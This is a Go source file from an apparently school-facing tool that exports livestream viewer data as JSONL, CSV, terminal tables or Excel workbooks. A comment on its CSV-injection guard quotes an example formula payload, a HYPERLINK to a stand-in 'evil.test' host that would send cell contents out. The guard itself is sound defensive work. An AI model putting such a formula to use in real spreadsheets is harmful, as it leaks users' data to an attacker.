package main

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"iter"
	"strings"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/livestat/livestat"
	"github.com/rivo/uniseg"
)

// Output formats.
const (
	formatJSONL = "jsonl"
	formatCSV   = "csv"
	formatTable = "table"
	formatXLSX  = "xlsx"
)

// outputOptions say how an output writes.
type outputOptions struct {
	format string
	// excel makes CSV for Excel: a UTF-8 BOM, and text that Excel would
	// run as a formula made plain text (see excelText).
	excel bool
	// name is the title of a sheet that has none of its own: the
	// worksheet's name in a workbook.
	name string
}

// output writes rows in one format. Rows are buffered within a page and
// flushed when the page ends, so output appears as pages arrive and memory
// does not grow with the number of rows. A workbook (xlsx) is written
// when the output is closed.
type output struct {
	w      *bufio.Writer
	opts   outputOptions
	format string
	prog   *progress
	csv    *csv.Writer
	// csvHeader is the header written: the first sheet's fields, or
	// those csvColumns set (csvUnion), which every sheet's rows fill in.
	csvHeader []string
	csvUnion  bool
	book      *workbook
	enc       bytes.Buffer // scratch for one row's JSON
	rows      int          // rows handed to the writer so far
	// flushed is the number of rows the destination took: rows counts
	// only once they were flushed without error.
	flushed int
	pages   int
	// tables is the number of tables begun, tableRows the rows of the
	// current one: each ends with its row count.
	tables, tableRows int
	err               error // of setting up the output
}

func newOutput(w io.Writer, opts outputOptions, prog *progress) *output {
	o := &output{w: bufio.NewWriterSize(destination{w}, 64<<10), opts: opts, format: opts.format, prog: prog}
	switch opts.format {
	case formatCSV:
		if opts.excel {
			o.w.WriteString("\uFEFF") // Excel reads UTF-8 only after a BOM
		}
		o.csv = csv.NewWriter(o.w)
	case formatXLSX:
		o.book, o.err = newWorkbook()
	}
	return o
}

// endPage flushes the page's rows and updates the progress line. total is
// the number of rows of the whole result, 0 if unknown.
func (o *output) endPage(total int) error {
	o.pages++
	if o.csv != nil {
		o.csv.Flush()
		if err := o.csv.Error(); err != nil {
			return err
		}
	}
	o.prog.clear() // so rows and the progress line do not mix on one terminal
	err := o.flush()
	o.prog.update(o.pages, o.rows, total)
	return err
}

// flush writes out the buffered rows.
func (o *output) flush() error {
	if err := o.w.Flush(); err != nil {
		return err
	}
	if o.book == nil {
		o.flushed = o.rows
	}
	return nil
}

// close ends the output after the last page.
func (o *output) close() error {
	o.prog.clear() // the footer must not land on the progress line
	o.endTable()
	if o.csv != nil {
		o.csv.Flush()
		if err := o.csv.Error(); err != nil {
			return err
		}
	}
	if o.book != nil {
		if err := o.book.close(o.w); err != nil {
			return err
		}
		if err := o.w.Flush(); err != nil {
			return err
		}
		o.flushed = o.rows
		return nil
	}
	return o.flush()
}

// csvColumns sets the CSV header of an output of several sheets with
// different fields, before the first: fields are all their fields. It does
// nothing in other formats.
func (o *output) csvColumns(fields []string) {
	if o.csv == nil || o.csvHeader != nil {
		return
	}
	o.csvHeader, o.csvUnion = fields, true
	if err := o.csv.Write(fields); err != nil && o.err == nil {
		o.err = err
	}
}

// endTable writes the row count of the current table, if any.
func (o *output) endTable() {
	if o.format != formatTable || o.tables == 0 {
		return
	}
	noun := "rows"
	if o.tableRows == 1 {
		noun = "row"
	}
	fmt.Fprintf(o.w, "(%d %s)\n", o.tableRows, noun)
}

// destination is where output writes: its errors are writeErrors, told
// apart from the errors of getting the rows wherever they surface (bufio
// and encoding/csv pass them on as they are).
type destination struct{ w io.Writer }

func (d destination) Write(p []byte) (int, error) {
	n, err := d.w.Write(p)
	if err != nil {
		err = &writeError{err}
	}
	return n, err
}

// writeError is a failure to write the output: a full disk, a closed pipe.
type writeError struct{ err error }

func (e *writeError) Error() string { return e.err.Error() }
func (e *writeError) Unwrap() error { return e.err }

func isWriteError(err error) bool {
	_, ok := errors.AsType[*writeError](err)
	return ok
}

// column is a table column.
type column[T any] struct {
	title string
	width int
	right bool // align right (numbers, durations)
	value func(*T) string
}

// sheet describes how rows of type T are written: the CSV and xlsx
// header after kind (the API's field names, nested ones joined with '_'),
// and the table columns. Rows of a sheet without kind (one list only, such
// as livings) have no kind field or column.
type sheet[T any] struct {
	fields []string
	// types are the fields that a workbook writes as times or shares.
	types   map[string]fieldType
	columns []column[T]
	kind    func(*T) livestat.ViewerKind
}

// header writes what comes before the first row.
func (s *sheet[T]) header(o *output) error { return s.begin(o, "", sheetTitle{}) }

// begin starts a part of the output written with s: in a workbook, a
// worksheet named after name (the output's name if zero); on a terminal, a
// table under title; in CSV the header, once: every sheet of one CSV output
// has the same fields.
func (s *sheet[T]) begin(o *output, title string, name sheetTitle) error {
	if o.err != nil {
		return o.err
	}
	head := s.fields
	if s.kind != nil {
		head = append([]string{"kind"}, s.fields...)
	}
	switch o.format {
	case formatCSV:
		if o.csvHeader != nil {
			return nil
		}
		o.csvHeader = head
		return o.csv.Write(head)
	case formatXLSX:
		types := make([]fieldType, len(head))
		for i, f := range head {
			types[i] = s.types[f]
		}
		return o.book.begin(cmp.Or(name, sheetTitle{head: o.opts.name}), head, types)
	case formatTable:
		if o.tables > 0 {
			o.endTable()
			o.w.WriteByte('\n')
		}
		o.tables++
		o.tableRows = 0
		if title != "" {
			fmt.Fprintln(o.w, fit(title, displayWidth(title), false))
		}
		cells := make([]string, len(s.columns))
		for i, c := range s.columns {
			cells[i] = fit(c.title, c.width, c.right)
		}
		_, err := fmt.Fprintln(o.w, strings.TrimRight(strings.Join(cells, "  "), " "))
		return err
	}
	return nil
}

// row writes one row.
func (s *sheet[T]) row(o *output, r *T) error {
	o.rows++
	var kind livestat.ViewerKind
	if s.kind != nil {
		kind = s.kind(r)
	}
	switch o.format {
	case formatTable:
		o.tableRows++
		cells := make([]string, len(s.columns))
		for i, c := range s.columns {
			cells[i] = fit(c.value(r), c.width, c.right)
		}
		_, err := fmt.Fprintln(o.w, strings.TrimRight(strings.Join(cells, "  "), " "))
		return err
	case formatCSV, formatXLSX:
		obj, err := o.rowJSON(r)
		if err != nil {
			return err
		}
		flat := make(map[string]any, len(s.fields))
		if err := flatten("", obj, flat); err != nil {
			return err
		}
		for f, t := range s.types {
			if _, ok := flat[f]; !ok && t == boolField {
				flat[f] = false // a cell says false where JSON leaves the field out
			}
		}
		vals := make([]any, 0, len(s.fields)+1)
		if s.kind != nil {
			vals = append(vals, string(kind))
		}
		for _, f := range s.fields {
			vals = append(vals, flat[f])
		}
		if o.book != nil {
			return o.book.add(vals)
		}
		if o.csvUnion {
			vals = vals[:0]
			for _, f := range o.csvHeader {
				vals = append(vals, flat[f])
			}
		}
		rec := make([]string, len(vals))
		for i, v := range vals {
			rec[i] = cell(v)
			if _, text := v.(string); text && o.opts.excel {
				rec[i] = excelText(rec[i])
			}
		}
		return o.csv.Write(rec)
	default:
		obj, err := o.rowJSON(r)
		if err != nil {
			return err
		}
		// {"kind":"...", then the row's own fields. The WeCom rows encode
		// their kind themselves, first; Nuoyun's have none of their own.
		if s.kind == nil || bytes.HasPrefix(obj, []byte(`{"kind":`)) {
			o.w.Write(obj)
			return o.w.WriteByte('\n')
		}
		o.w.WriteString(`{"kind":`)
		k, _ := json.Marshal(string(kind))
		o.w.Write(k)
		if rest := bytes.TrimSpace(obj[1:]); len(rest) > 1 {
			o.w.WriteByte(',')
		}
		o.w.Write(obj[1:])
		return o.w.WriteByte('\n')
	}
}

// excelText keeps Excel from running s as a formula. A cell that starts
// with = + - or @ is a formula to Excel (and to LibreOffice and Google
// Sheets), tab and carriage return hide such a start, and the text of
// these cells comes from outsiders: a viewer's nickname such as
// =HYPERLINK("http://evil.test/?"&A1,"click") would run in the school's
// spreadsheet. A leading ' makes Excel show the rest as text (OWASP's
// advice for CSV injection). Numbers are not text and keep their sign.
func excelText(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// rowJSON encodes r with the API's field names and values, without
// escaping HTML characters (URLs stay readable). The result is valid until
// the next call.
func (o *output) rowJSON(r any) ([]byte, error) {
	o.enc.Reset()
	e := json.NewEncoder(&o.enc)
	e.SetEscapeHTML(false)
	if err := e.Encode(r); err != nil {
		return nil, err
	}
	b := bytes.TrimSpace(o.enc.Bytes())
	if len(b) < 2 || b[0] != '{' {
		return nil, fmt.Errorf("row does not encode to a JSON object: %.40s", b)
	}
	return b, nil
}

// flatten turns a JSON object into the values of cells: nested objects
// become parent_child; numbers are json.Numbers.
func flatten(prefix string, obj []byte, dst map[string]any) error {
	d := json.NewDecoder(bytes.NewReader(obj))
	d.UseNumber()
	var m map[string]any
	if err := d.Decode(&m); err != nil {
		return err
	}
	flattenMap(prefix, m, dst)
	return nil
}

func flattenMap(prefix string, m map[string]any, dst map[string]any) {
	for k, v := range m {
		if prefix != "" {
			k = prefix + "_" + k
		}
		if sub, ok := v.(map[string]any); ok {
			flattenMap(k, sub, dst)
			continue
		}
		dst[k] = v
	}
}

// cell is the CSV cell of a JSON value: lists are joined with ';', null
// is empty.
func cell(v any) string {
	switch v := v.(type) {
	case nil:
		return ""
	case string:
		return v
	case json.Number:
		return v.String()
	case bool:
		if v {
			return "true"
		}
		return "false"
	case []any:
		parts := make([]string, len(v))
		for i, e := range v {
			parts[i] = cell(e)
		}
		return strings.Join(parts, ";")
	}
	b, _ := json.Marshal(v)
	return string(b)
}

// stream writes every row of pages to o, page by page: lists returns a
// page's row lists in the API's order, total the number of rows of the
// whole result when the page tells it (0 otherwise).
func stream[P, T any](o *output, s *sheet[T], pages iter.Seq2[P, error], lists func(P) [][]T, total func(P) int) error {
	if err := s.header(o); err != nil {
		return err
	}
	for p, err := range pages {
		if err != nil {
			// Rows of the pages before the failure are already out;
			// flush what is buffered so the output ends on a row boundary.
			o.prog.clear()
			o.flush()
			return err
		}
		for _, l := range lists(p) {
			for i := range l {
				if err := s.row(o, &l[i]); err != nil {
					return err
				}
			}
		}
		n := 0
		if total != nil {
			n = total(p)
		}
		if err := o.endPage(n); err != nil {
			return err
		}
	}
	return nil
}

// progress is the live line on a terminal's stderr. A nil *progress does
// nothing.
type progress struct {
	w     io.Writer
	name  string
	drawn bool
}

func (p *progress) update(pages, rows, total int) {
	if p == nil {
		return
	}
	line := fmt.Sprintf("%s: %d pages, %d rows", p.name, pages, rows)
	if total > 0 {
		line = fmt.Sprintf("%s: %d pages, %d of %d rows", p.name, pages, rows, total)
	}
	fmt.Fprintf(p.w, "\r\x1b[K%s", line)
	p.drawn = true
}

// counter is an attendance.Options.Progress that shows "done of total
// what"; nil on a nil *progress.
func (p *progress) counter(what string) func(done, total int) {
	if p == nil {
		return nil
	}
	return func(done, total int) {
		fmt.Fprintf(p.w, "\r\x1b[K%s: %d of %d %s", p.name, done, total, what)
		p.drawn = true
	}
}

func (p *progress) clear() {
	if p == nil || !p.drawn {
		return
	}
	fmt.Fprint(p.w, "\r\x1b[K")
	p.drawn = false
}

// Table cells.

// duration formats seconds for people: 45s, 12m05s, 1h02m.
func duration(s livestat.Seconds) string {
	switch {
	case s <= 0:
		return "0s"
	case s < 60:
		return fmt.Sprintf("%ds", s)
	case s < 3600:
		return fmt.Sprintf("%dm%02ds", s/60, s%60)
	}
	return fmt.Sprintf("%dh%02dm", s/3600, s%3600/60)
}

// localTime formats t in the local zone; "-" for the zero time.
func localTime(t time.Time) string {
	if t.IsZero() {
		return "-"
	}
	return t.Local().Format("2006-01-02 15:04")
}

func yesNo(f livestat.IntBool) string {
	if f {
		return "yes"
	}
	return "no"
}

func joinInts(ids []int64, sep string) string {
	parts := make([]string, len(ids))
	for i, id := range ids {
		parts[i] = fmt.Sprint(id)
	}
	return strings.Join(parts, sep)
}

// fit pads or cuts s to width terminal columns. Widths are those of
// grapheme clusters (uniseg): a Chinese character or an emoji, also a ZWJ
// sequence or a flag, takes two columns, a combining accent none. Control
// characters are replaced, so that a nickname cannot send escape sequences
// to a terminal.
func fit(s string, width int, right bool) string {
	s = strings.Map(func(r rune) rune {
		if unicode.IsControl(r) || r == utf8.RuneError {
			return '?'
		}
		return r
	}, s)
	w := displayWidth(s)
	if w > width {
		var b strings.Builder
		used := 0
		for rest, state := s, -1; rest != ""; {
			var g string
			var gw int
			g, rest, gw, state = uniseg.FirstGraphemeClusterInString(rest, state)
			if used+gw > width-1 {
				break
			}
			b.WriteString(g)
			used += gw
		}
		b.WriteString("…")
		s, w = b.String(), used+1
	}
	pad := strings.Repeat(" ", width-w)
	if right {
		return pad + s
	}
	return s + pad
}

// displayWidth is the number of terminal columns s takes.
func displayWidth(s string) int { return uniseg.StringWidth(s) }
